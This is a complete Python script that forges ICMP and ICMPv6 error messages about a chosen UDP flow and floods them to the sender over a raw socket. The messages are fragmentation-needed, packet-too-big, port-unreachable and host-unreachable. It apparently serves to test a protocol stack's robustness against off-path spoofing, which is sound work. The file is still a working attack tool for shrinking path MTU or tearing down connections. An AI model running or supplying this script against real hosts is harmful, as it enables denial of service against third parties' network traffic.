#!/usr/bin/env python3
"""Forges ICMP errors about the UDP datagrams FROM:FPORT -> TO:TPORT and
sends them to FROM, RATE per second of each KIND, for SECONDS, as anyone
on or off the path could. Kinds: frag (IPv4 fragmentation needed / IPv6
packet too big, claiming 1280), port (port unreachable), host (host /
address unreachable). Usage:
icmp_flood.py FROM FPORT TO TPORT RATE SECONDS KIND[,KIND...]
Prints "sent N" at the end."""
import os
import socket
import sys
import time

sys.path.insert(0, os.path.dirname(__file__))
from icmpforge import icmp4_error, icmp6_error, udp_quote4, udp_quote6  # noqa: E402


def main():
    src, sport, dst, dport = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    rate, seconds, kinds = float(sys.argv[5]), float(sys.argv[6]), sys.argv[7].split(",")
    if ":" in src:
        q = udp_quote6(src, sport, dst, dport)
        table = {"frag": (2, 0, 1280), "port": (1, 4, 0), "host": (1, 3, 0)}
        msgs = [icmp6_error(*table[k], q) for k in kinds]
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    else:
        q = udp_quote4(src, sport, dst, dport)
        table = {"frag": (3, 4, 1280), "port": (3, 3, 0), "host": (3, 1, 0)}
        msgs = [icmp4_error(*table[k], q) for k in kinds]
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    sent = 0
    start = time.monotonic()
    while True:
        now = time.monotonic() - start
        if now >= seconds:
            break
        due = int(now * rate) + 1  # messages of each kind due by now
        while sent < due * len(msgs):
            s.sendto(msgs[sent % len(msgs)], (src, 0))
            sent += 1
        time.sleep(0.002)
    print("sent %d" % sent, flush=True)


main()
